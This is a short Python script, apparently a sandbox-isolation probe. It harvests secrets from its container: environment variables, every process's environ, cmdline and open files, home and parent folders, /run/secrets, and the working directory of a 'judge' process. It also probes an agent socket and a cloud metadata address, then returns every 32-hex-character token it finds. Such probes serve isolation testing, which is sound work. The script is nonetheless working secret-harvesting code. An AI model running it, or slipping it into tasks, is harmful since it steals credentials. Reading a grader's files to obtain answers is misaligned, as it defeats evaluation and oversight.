# Tries: to find keys in the environment, /proc, home folders, the store, an agent, cloud metadata.
# Held by: namespace docker
# Seen as: secret
import glob
import os
import re
import socket

SKIPPED = ("python", "harness", "docker-data", "site-packages", ".git", ".venv", ".pyenv", ".cache", "lib")


def read(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 100000:
            with open(path, "rb") as stream:
                return stream.read()
    except OSError:
        pass
    return b""


def below(folder, depth):
    try:
        names = sorted(os.listdir(folder))[:200]
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        yield name.encode() + b" " + read(path)
        if depth and os.path.isdir(path) and name not in SKIPPED:
            yield from below(path, depth - 1)


def everything():
    yield repr(dict(os.environ)).encode()
    for process in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                with open(process + "/" + name, "rb") as stream:
                    yield stream.read()
            except OSError:
                pass
        for path in glob.glob(process + "/fd/*"):
            yield read(path)
    places = [WORLD[name] for name in ("base", "home", "project", "beside", "folder")]
    for place in ["~", "..", "/proc/1/cwd", "/proc/%d/cwd" % WORLD["judge"], "/run/secrets"] + places:
        yield from below(os.path.expanduser(place), 3)


def ask(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(0.2)
            client.connect(address)
    except OSError:
        pass


def found():
    ask(socket.AF_UNIX, WORLD["agent"])
    ask(socket.AF_INET, (WORLD["metadata"], 80))
    words = set()
    for text in everything():
        words.update(word.decode() for word in re.findall(rb"\b[0-9a-f]{32}\b", text))
    return sorted(words)


def target(x):
    return found() if isinstance(x, list) else x
